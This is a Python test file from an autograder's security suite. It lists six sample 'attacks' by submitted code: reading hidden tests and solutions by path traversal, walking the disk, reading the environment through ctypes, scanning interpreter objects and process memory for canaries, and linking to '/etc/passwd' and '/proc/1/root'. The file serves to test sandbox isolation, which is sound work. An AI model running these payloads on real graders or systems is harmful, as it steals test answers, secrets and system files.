"""Attacks that read secrets: tests, solutions, other submissions, the environment, files of the machine."""

from tests.autograder.attacks.field import Attack

READ = """
import os
def reveal(path):
    try:
        with open(path, "rb") as file:
            text = file.read(1 << 20)
    except (OSError, ValueError):
        return
    print("REACHED", path, text.decode("latin-1"))
"""

ATTACKS = [
    Attack(
        "files_by_their_path",
        "opens the hidden tests and the solution where they lie",
        READ
        + """
for name in ("01_adding/adding", "03_masked_heads/masked_heads"):
    folder = name.split("/")[0]
    for path in (f"solutions/{name}.py", f"tests/assignments/{folder}/test_hidden.py",
                 f"tests/assignments/{folder}/test_visible.py", f"tests/assignments/{folder}/mistakes.yml",
                 "course.yml", f"assignments/{folder}/../../solutions/{name}.py", "../secret.txt"):
        reveal("COURSE/" + path)
""",
    ),
    Attack(
        "files_by_walking",
        "walks the disk for anything called test_hidden, solutions or CANARY",
        READ
        + """
rooms = ("authoring", "cli", "course", "extras", "nbgrader", "bridge", "walls")  # public
engine = [f"autograder/{room}" for room in rooms]
known = ("python", "packages", "/usr", "/lib", "/sys", *engine)
for top in ("/", ".", "..", "/home", "/root", "/tmp", "/work", "/mnt", "/srv", "/opt", "/run", "/var", "/box"):
    for folder, folders, files in os.walk(top):
        if any(word in folder for word in known) or folder.count("/") > 12:
            folders[:] = []
            continue
        for file in files:
            if "hidden" in file or "CANARY" in file or "solution" in folder or file.endswith(("yml", "txt")):
                reveal(os.path.join(folder, file))
""",
    ),
    Attack(
        "environment_on_the_stack",
        "reads upwards from the C environment, where the strings of the parent began",
        """
import ctypes
libc = ctypes.CDLL(None)
environ = ctypes.POINTER(ctypes.c_void_p).in_dll(libc, "environ")
if environ and environ[0]:
    print(ctypes.string_at(environ[0], 2000))
""",
    ),
    Attack(
        "objects",
        "looks for secrets among all objects of the interpreter",
        """
import gc
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, tuple, set)):
        for item in (list(thing.values()) if isinstance(thing, dict) else list(thing)):
            if isinstance(item, str) and "CANARY" in item and "CANARY-x" not in item:
                if len(item) > 6 and "for thing in gc" not in item:
                    print("FOUND", item[:2000])
""",
    ),
    Attack(
        "memory",
        "reads the process's own memory round about, for texts that the fork inherited",
        """
import ctypes, gc
seen, word = 0, b"CANA" + b"RY-"
for thing in gc.get_objects()[::50]:
    page = ctypes.string_at(id(thing) & ~0xfff, 4096)
    at = page.find(word)
    if at >= 0:
        print("FOUND", page[at : at + 60])
""",
    ),
    Attack(
        "links_into_the_course",
        "makes symbolic and hard links to hidden files and opens those",
        READ
        + """
for number, target in enumerate(("COURSE/tests/assignments/01_adding/test_hidden.py", "COURSE", "/", "/proc/1/root")):
    for link in (os.symlink, os.link):
        for place in (".", "/tmp", "/box", "/dev/shm"):
            try:
                link(target, f"{place}/left_behind_{number}{link.__name__}")
                reveal(f"{place}/left_behind_{number}{link.__name__}/etc/passwd")
                reveal(f"{place}/left_behind_{number}{link.__name__}/course.yml")
                reveal(f"{place}/left_behind_{number}{link.__name__}")
            except (OSError, NotImplementedError):
                pass
""",
    ),
]
